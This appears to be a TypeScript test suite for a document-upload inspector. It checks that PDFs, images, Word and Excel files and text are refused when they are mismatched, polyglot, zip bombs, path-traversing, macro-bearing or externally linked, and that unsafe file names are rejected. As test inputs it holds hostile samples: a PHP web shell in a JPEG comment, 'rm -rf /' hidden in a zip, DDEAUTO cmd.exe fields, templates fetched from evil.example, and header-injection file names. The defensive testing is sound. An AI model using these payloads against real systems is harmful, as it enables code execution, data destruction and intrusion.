/** Which bytes are taken for which kind of file, and what is refused: polyglots, bombs, paths that lead out, macros, outside references. */
import writeXlsxFile from 'write-excel-file/node';
import type { Entry } from 'yauzl';
import { fileKinds } from '../../api/documents/file-kind';
import { acceptableName, attachment } from '../../api/documents/file-name';
import type { FileFault } from '../../api/documents/inspector';
import { officeLimits } from '../../api/documents/office-file';
import { unsafeEntry } from '../../api/documents/zip-entries';
import {
  declaring,
  docx,
  docxParts,
  jpeg,
  pdf,
  png,
  relation,
  relationsOf,
  xlsx,
  type ZipEntry,
  zip,
} from '../support/files';

const types = {
  pdf: 'application/pdf',
  png: 'image/png',
  jpeg: 'image/jpeg',
  docx: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
  xlsx: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
  txt: 'text/plain',
  csv: 'text/csv',
} as const;
type Kind = keyof typeof types;

/** What is wrong with the bytes as this kind of file, given in pieces of a size that no format knows. */
async function faultOf(kind: Kind, bytes: Buffer): Promise<FileFault | null> {
  const inspector = fileKinds[types[kind]]?.inspect();
  if (inspector === undefined) throw new Error(`${kind} is not accepted`);
  for (let at = 0; at < bytes.length; at += 777) await inspector.see(bytes.subarray(at, at + 777));
  try {
    return await inspector.finish();
  } finally {
    await inspector.close?.();
  }
}

describe('files are taken for what they are', () => {
  it.each<[string, Kind, Buffer]>([
    ['a PDF', 'pdf', pdf('审计报告')],
    ['a PDF of many pieces', 'pdf', pdf('长', 200_000)],
    ['a PNG', 'png', png()],
    ['a PNG with a text', 'png', png(['tEXt', 'Comment\0scanned'])],
    ['a JPEG', 'jpeg', jpeg('scanned page')],
    ['a Word document with a hyperlink', 'docx', docx()],
    ['a workbook', 'xlsx', xlsx()],
    ['a document with a workbook behind a chart', 'docx', docx({ path: 'word/embeddings/sheet1.xlsx', data: xlsx() })],
    ['text in UTF-8', 'txt', Buffer.from('运营方案\r\n\t第二行')],
    ['text with markup, which is text', 'txt', Buffer.from('<script>alert(1)</script>')],
    ['a table in GB 18030', 'csv', Buffer.from([0xc3, 0xfb, 0xb3, 0xc6, 0x0a])],
  ])('%s', async (_name, kind, bytes) => {
    expect(await faultOf(kind, bytes)).toBeNull();
  });

  it('a workbook as a program writes it', async () => {
    const bytes = await writeXlsxFile([{ data: [['名称', '数量']], sheet: '表' }]).toBuffer();
    expect(await faultOf('xlsx', bytes)).toBeNull();
  });
});

describe('bytes of another kind than declared', () => {
  it.each<[string, Kind, Buffer]>([
    ['a program as a PDF', 'pdf', Buffer.from('MZ this is a program')],
    ['the beginning of a PDF only', 'pdf', Buffer.from('%PD')],
    ['a PDF cut off', 'pdf', pdf('报告', 5_000).subarray(0, 4_000)],
    ['a PDF whose header comes later', 'pdf', Buffer.concat([Buffer.from('junk\n'), pdf()])],
    ['a JPEG as a PNG', 'png', jpeg()],
    ['a PNG cut off', 'png', png().subarray(0, 40)],
    ['text as a JPEG', 'jpeg', Buffer.from('not an image')],
    ['a workbook as a document', 'docx', xlsx()],
    ['a document as a workbook', 'xlsx', docx()],
    ['a zip archive of something else', 'docx', zip([{ path: 'a.txt', data: 'a' }])],
    ['a few bytes of a zip archive', 'docx', Buffer.from([0x50, 0x4b, 3, 4, 1, 2])],
    [
      'a document whose main part is missing',
      'docx',
      zip(docxParts.filter(({ path }) => path !== 'word/document.xml')),
    ],
    ['text with a NUL', 'txt', Buffer.from('a\0b')],
    ['text with an escape sequence', 'txt', Buffer.from('a\u001b[2Jb')],
    ['text of no known encoding', 'txt', Buffer.from([0xff, 0xff, 0xff])],
  ])('%s', async (_name, kind, bytes) => {
    expect(await faultOf(kind, bytes)).toEqual({ code: 'fileTypeMismatch' });
  });
});

describe('files that are of another type as well', () => {
  const archive = zip([{ path: 'Main.class', data: 'cafebabe' }]);
  it.each<[string, Kind, Buffer]>([
    ['a PDF with a zip archive appended', 'pdf', Buffer.concat([pdf(), archive])],
    ['a PDF with a RAR archive in it', 'pdf', pdf('Rar!\u001a\u0007\u0000')],
    ['a PDF that begins with markup', 'pdf', pdf('<script>alert(1)</script>')],
    ['a PDF that goes on after its end', 'pdf', Buffer.concat([pdf(), Buffer.from('more')])],
    ['an image with an archive appended (GIFAR)', 'jpeg', Buffer.concat([jpeg(), archive])],
    ['a PNG with an archive appended', 'png', Buffer.concat([png(), archive])],
    ['a PNG that goes on after its end', 'png', Buffer.concat([png(), Buffer.from('more')])],
    ['a PNG with a script in its text', 'png', png(['tEXt', 'Comment\0<script src=x></script>'])],
    ['a JPEG with a page in its comment', 'jpeg', jpeg('<html ><body onload=x>')],
    ['a JPEG with PHP in its comment', 'jpeg', jpeg('<?php system($_GET[0]); ?>')],
    ['a JPEG that is a PDF as well', 'jpeg', jpeg('%PDF-1.4')],
    ['text that is a PDF as well', 'txt', Buffer.from('hello\n%PDF-1.7\n%%EOF')],
    ['a document with a comment behind it', 'docx', zip(docxParts, '#!/bin/sh')],
  ])('%s', async (_name, kind, bytes) => {
    expect((await faultOf(kind, bytes))?.code).toBe('filePolyglot');
  });

  it('a document with something hidden between its parts', async () => {
    const bytes = docx();
    const second = bytes.indexOf('_rels/.rels') - 30;
    const hidden = Buffer.from('#!/bin/sh\nrm -rf /\n# hidden between two parts\n');
    const moved = Buffer.concat([bytes.subarray(0, second), hidden, bytes.subarray(second)]);
    const central = moved.indexOf(Buffer.from([0x50, 0x4b, 0x01, 0x02]));
    for (let at = central; moved.readUInt32LE(at) === 0x02014b50; at += 46 + moved.readUInt16LE(at + 28)) {
      const offset = moved.readUInt32LE(at + 42);
      if (offset > 0) moved.writeUInt32LE(offset + hidden.length, at + 42);
    }
    moved.writeUInt32LE(central, moved.length - 6);
    expect((await faultOf('docx', moved))?.code).toBe('filePolyglot');
  });
});

describe('office files that cannot be opened safely', () => {
  const zeros = Buffer.alloc(30 * 1024 * 1024);
  const inside = (path: string, data: string | Buffer, more: Partial<ZipEntry> = {}): Buffer =>
    docx({ path, data, ...more });
  it.each<[string, Buffer, string]>([
    ['a zip bomb', inside('word/media/a.bin', zeros), 'packed beyond'],
    ['a bomb that says it is small', inside('word/media/a.bin', zeros, { declares: 100 }), 'declared type'],
    [
      'more than 1,000 parts',
      docx(...Array.from({ length: 1_000 }, (_, index) => ({ path: `word/media/${index}`, data: '' }))),
      'more than 1000 entries',
    ],
    ['an archive inside', inside('word/media/a.zip', zip([{ path: 'a', data: 'a' }]), { stored: true }), 'archive'],
    [
      'an archive inside an embedded workbook',
      inside('word/embeddings/a.xlsx', xlsx({ path: 'xl/media/b.zip', data: zip([{ path: 'b', data: 'b' }]) })),
      'archive',
    ],
    ['a gzip inside', inside('word/media/a.gz', Buffer.from([0x1f, 0x8b, 8, 0])), 'archive'],
    ['a program inside', inside('word/media/a.png', 'MZ\x90\0 program'), 'program'],
    [
      'an OLE object inside',
      inside('word/embeddings/oleObject1.bin', Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0])),
      'embedded',
    ],
    ['a path that leads out', inside('../../etc/cron.d/x', 'x'), 'path'],
    ['an absolute path', inside('/etc/passwd', 'x'), 'path'],
    ['a path of Windows', inside('word\\..\\..\\x', 'x'), 'path'],
    ['a drive', inside('C:/x', 'x'), 'path'],
    ['a path with control characters', inside('word/a\u0007', 'x'), 'path'],
    ['a link', inside('word/link', '/etc/passwd', { mode: 0o120777 }), 'link'],
    ['a part twice', zip([...docxParts, { path: 'WORD/document.xml', data: 'x' }]), 'twice'],
    ['an encrypted part', inside('word/secret.xml', 'x', { encrypted: true }), 'encrypted'],
    [
      'a document type with entities',
      inside('word/document.xml', '<!DOCTYPE a [<!ENTITY b "c">]><w:document/>'),
      'document type',
    ],
    ['a part in UTF-16', inside('word/document.xml', Buffer.from('\ufeff<w:document/>', 'utf16le')), 'UTF-8'],
  ])('%s', async (_name, bytes, reason) => {
    const fault = await faultOf('docx', bytes);
    expect(fault?.code).toBe(reason === 'declared type' ? 'fileTypeMismatch' : 'fileUnsafe');
    if (fault?.details !== undefined) expect(fault.details['problemEn']).toContain(reason);
  });
});

describe('the directory of an archive', () => {
  const mebibyte = 1024 * 1024;
  const entry = (path: string, uncompressedSize: number): Entry =>
    ({
      fileNameRaw: Buffer.from(path),
      uncompressedSize,
      compressedSize: uncompressedSize,
      generalPurposeBitFlag: 0,
      externalFileAttributes: 0,
    }) as Entry;

  it('may declare 256 MiB unpacked, and not a byte more', () => {
    const judged = unsafeEntry(officeLimits);
    expect(judged(entry('a', 200 * mebibyte)).fault).toBeNull();
    expect(judged(entry('b', 56 * mebibyte)).fault).toBeNull();
    expect(judged(entry('c', 1)).fault?.details?.['problemEn']).toBe('too large when unpacked');
  });

  it('may name parts in GB 18030, as Chinese programs do', () => {
    const judged = unsafeEntry(officeLimits);
    const fileNameRaw = Buffer.from([0xd0, 0xad, 0xd2, 0xe9, 0x2e, 0x70, 0x64, 0x66]);
    expect(judged({ ...entry('', 1), fileNameRaw } as Entry)).toEqual({ path: '协议.pdf', fault: null });
  });
});

describe('office files that run or load something when they are opened', () => {
  const settings = 'word/_rels/settings.xml.rels';
  const field = (code: string): ZipEntry => ({
    path: 'word/document.xml',
    data: `<w:document><w:r><w:instrText xml:space="preserve">${code}</w:instrText></w:r></w:document>`,
  });
  it.each<[string, Kind, Buffer, string]>([
    ['a macro project', 'docx', docx({ path: 'word/vbaProject.bin', data: 'x' }), 'macros'],
    [
      'a part that is declared as macros',
      'docx',
      docx(declaring('/word/x.bin', 'application/vnd.ms-office.vbaProject')),
      'macros',
    ],
    [
      'a part that is declared as macros in other letters',
      'docx',
      docx(declaring('/word/x.bin', 'application/vnd.ms-office.vba&#80;roject')),
      'macros',
    ],
    [
      'a template with macros',
      'docx',
      docx(declaring('/word/x.xml', 'application/vnd.ms-word.template.macroEnabledTemplate.main+xml')),
      'macros',
    ],
    ['a sheet of macros', 'xlsx', xlsx({ path: 'xl/macrosheets/sheet1.xml', data: '<x/>' }), 'macros'],
    ['an ActiveX control', 'docx', docx({ path: 'word/activeX/activeX1.xml', data: '<x/>' }), 'macros'],
    [
      'a template from outside',
      'docx',
      docx(relationsOf(settings, relation('attachedTemplate', 'https://evil.example/t.dotm', 'External'))),
      'template',
    ],
    [
      'a template from outside, written to hide',
      'docx',
      docx(relationsOf(settings, relation('attachedTemplate', 'https://evil.example/a>b', 'external'))),
      'template',
    ],
    [
      'an object from outside',
      'docx',
      docx(relationsOf(settings, relation('oleObject', 'https://evil.example/o', 'External'))),
      'outside',
    ],
    [
      'an image from outside',
      'docx',
      docx(relationsOf(settings, relation('image', 'https://evil.example/i.png', 'External'))),
      'outside',
    ],
    ['a DDE field', 'docx', docx(field(' DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"')), 'DDE'],
    [
      'a DDE field spread over two runs',
      'docx',
      docx(field('DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\cmd.exe')),
      'DDE',
    ],
    [
      'a DDE field in one tag',
      'docx',
      docx({ path: 'word/document.xml', data: '<w:document><w:fldSimple w:instr="DDE cmd"/></w:document>' }),
      'DDE',
    ],
    [
      'a DDE link',
      'xlsx',
      xlsx({ path: 'xl/externalLinks/externalLink1.xml', data: '<x><ddeLink ddeService="cmd"/></x>' }),
      'DDE',
    ],
    [
      'macros in an embedded workbook',
      'docx',
      docx({ path: 'word/embeddings/a.xlsx', data: xlsx({ path: 'xl/vbaProject.bin', data: 'x' }) }),
      'macros',
    ],
  ])('%s', async (_name, kind, bytes, reason) => {
    const fault = await faultOf(kind, bytes);
    expect(fault).toMatchObject({ code: 'fileActiveContent', details: { problemEn: expect.stringContaining(reason) } });
  });

  it('a DDE field in a document of many pieces', async () => {
    const long = Array.from({ length: 9_000 }, (_, index) => `<w:t>段落 ${(index * 7919) % 9973}</w:t>`).join('');
    const data = `<w:document>${long}<w:instrText>DDEAUTO cmd</w:instrText>${long}</w:document>`;
    expect((await faultOf('docx', docx({ path: 'word/document.xml', data })))?.code).toBe('fileActiveContent');
  });
});

describe('names of files', () => {
  it.each([
    ['审计报告（2025年）.pdf', '审计报告（2025年）.pdf'],
    [' 审计报告 2025.PDF ', '审计报告 2025.PDF'],
    ['e\u0301tude.pdf', '\u00e9tude.pdf'],
    ['../../etc/passwd.pdf', null],
    ['C:\\reports\\审计.pdf', null],
    ['a/b.pdf', null],
    ['re\u202efdp.pdf', null],
    ['a\u200b.pdf', null],
    ['a\u0000.pdf', null],
    ['a\r\nSet-Cookie: x.pdf', null],
    ['a"b.pdf', null],
    ['CON.pdf', null],
    ['lpt1.pdf', null],
    ['.pdf', null],
    ['report', null],
    ['report.exe', null],
    ['report.pdf.exe', null],
    [`${'长'.repeat(65)}.pdf`, `${'长'.repeat(65)}.pdf`],
    [`${'长'.repeat(66)}.pdf`, null],
  ])('%j', (given, expected) => {
    expect(acceptableName(given, ['pdf'])).toBe(expected);
  });

  it('go into a header that every program reads, Chinese ones as UTF-8 (RFC 8187)', () => {
    expect(attachment("审计 'a'(1)*.pdf")).toBe(
      `attachment; filename="document.pdf"; filename*=UTF-8''%E5%AE%A1%E8%AE%A1%20%27a%27%281%29%2A.pdf`,
    );
  });
});
